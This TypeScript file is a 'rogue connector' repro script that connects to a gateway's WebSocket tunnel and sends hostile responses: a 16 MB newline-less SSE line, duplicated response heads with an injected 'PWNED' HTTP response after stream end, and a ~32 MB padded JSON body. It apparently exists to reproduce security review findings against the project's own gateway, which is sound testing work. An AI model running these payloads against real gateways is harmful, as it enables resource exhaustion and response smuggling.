/**
 * A hostile connector written with `ws`, speaking the real frame format, that claims a
 * Chat-Completions-only upstream (so the gateway translates /v1/messages and /v1/responses
 * for it) and answers every request the way MODE says. For the review repros only.
 *
 *   TOKIOS_TUNNEL_TOKEN=tt-… npx tsx repro/rogue-connector.ts GATEWAY_URL MODE
 *
 * MODE:
 *   longline  200 text/event-stream, then one 16 MB SSE line without a newline, in 512-byte
 *             data frames (respecting the windows the gateway grants); LINE_MB=4 for a shorter run
 *   doublehead two response heads on one stream, then data after its end
 *   bigjson   200 application/json: a valid Chat Completions answer padded to ~32 MB with
 *             empty objects (the gateway collects it and JSON.parses it to translate)
 */
import WebSocket from 'ws';
import { decodeFrames, encodeFrame, parseWindowUpdate } from '../main/tunnel/frame-codec.js';
import { DEFAULT_LIMITS, FLAG_END_STREAM, FrameType, TUNNEL_SUBPROTOCOL } from '../shared/tunnel-protocol.js';

const [gateway, mode] = process.argv.slice(2) as [string, string];
const token = process.env.TOKIOS_TUNNEL_TOKEN ?? "";
const ws = new WebSocket(`${gateway.replace(/^http/, 'ws')}/v1/tunnel`, TUNNEL_SUBPROTOCOL, { headers: { authorization: `Bearer ${token}` }, perMessageDeflate: false });
let connectionCredit = DEFAULT_LIMITS.connectionWindow;
const streamCredit = new Map<number, number>();
const waiters: Array<() => void> = [];
const wake = (): void => { for (const w of waiters.splice(0)) w(); };
const send = (b: Buffer): void => ws.send(b);

ws.on('open', () => {
  send(encodeFrame(FrameType.Hello, 0, 0, JSON.stringify({ version: 'rogue', upstreamKind: 'llamacpp', models: ['m'], model: 'm', endpoints: ['/v1/chat/completions'], limits: DEFAULT_LIMITS })));
  console.error('rogue connector: hello sent');
});
ws.on('close', (code, reason) => { console.error(`rogue connector: closed ${code} ${reason.toString()}`); process.exit(0); });
ws.on('message', (data: Buffer) => {
  decodeFrames(data, (type, flags, streamId, payload) => {
    if (type === FrameType.Settings) console.error(`rogue connector: settings ${payload.toString()}`);
    if (type === FrameType.WindowUpdate) {
      const inc = parseWindowUpdate(payload);
      if (streamId === 0) connectionCredit += inc;
      else streamCredit.set(streamId, (streamCredit.get(streamId) ?? 0) + inc);
      wake();
    }
    if ((type === FrameType.RequestHead || type === FrameType.Data) && flags & FLAG_END_STREAM) {
      streamCredit.set(streamId, streamCredit.get(streamId) ?? DEFAULT_LIMITS.streamWindow);
      void answer(streamId).catch((e) => console.error('rogue connector:', e));
    }
  });
});

async function sendData(streamId: number, chunk: Buffer): Promise<void> {
  for (;;) {
    const credit = Math.min(connectionCredit, streamCredit.get(streamId) ?? 0);
    if (credit >= chunk.length) break;
    await new Promise<void>((r) => waiters.push(r));
  }
  connectionCredit -= chunk.length;
  streamCredit.set(streamId, streamCredit.get(streamId)! - chunk.length);
  send(encodeFrame(FrameType.Data, 0, streamId, chunk));
}

async function answer(streamId: number): Promise<void> {
  const t0 = Date.now();
  if (mode === 'longline') {
    send(encodeFrame(FrameType.ResponseHead, 0, streamId, JSON.stringify({ status: 200, headers: { 'content-type': 'text/event-stream' } })));
    await sendData(streamId, Buffer.from('data: {"choices":[{"delta":{"content":"'));
    const piece = Buffer.alloc(512, 0x61);
    const lineBytes = Number(process.env.LINE_MB ?? 16) * 1024 * 1024 - 1024;
    for (let sent = 0; sent < lineBytes; sent += piece.length) await sendData(streamId, piece);
  } else if (mode === 'doublehead') {
    // Two response heads on one stream, a 205 with a body, then data after the end flag.
    const head = encodeFrame(FrameType.ResponseHead, 0, streamId, JSON.stringify({ status: 205, headers: { 'content-type': 'application/json', 'content-length': '2' } }));
    send(Buffer.concat([head, head]));
    await sendData(streamId, Buffer.from('{}'));
    send(encodeFrame(FrameType.Data, FLAG_END_STREAM, streamId));
    await sendData(streamId, Buffer.from('HTTP/1.1 200 OK\r\ncontent-length: 5\r\n\r\nPWNED'));
  } else if (mode === 'bigjson') {
    send(encodeFrame(FrameType.ResponseHead, 0, streamId, JSON.stringify({ status: 200, headers: { 'content-type': 'application/json' } })));
    // A valid Chat Completions answer padded with ~11M empty objects, just under the 32 MB the
    // gateway collects for translation: it parses the whole answer at its end.
    await sendData(streamId, Buffer.from('{"choices":[{"index":0,"message":{"role":"assistant","content":"hi"},"finish_reason":"stop"}],"pad":['));
    const piece = Buffer.alloc(63 * 1024, '{},');
    for (let sent = 0; sent < 32 * 1024 * 1024 - 70_000; sent += piece.length) await sendData(streamId, piece);
    await sendData(streamId, Buffer.from('{}]}'));
  }
  send(encodeFrame(FrameType.Data, FLAG_END_STREAM, streamId));
  console.error(`rogue connector: stream ${streamId} answered in ${Date.now() - t0} ms`);
}
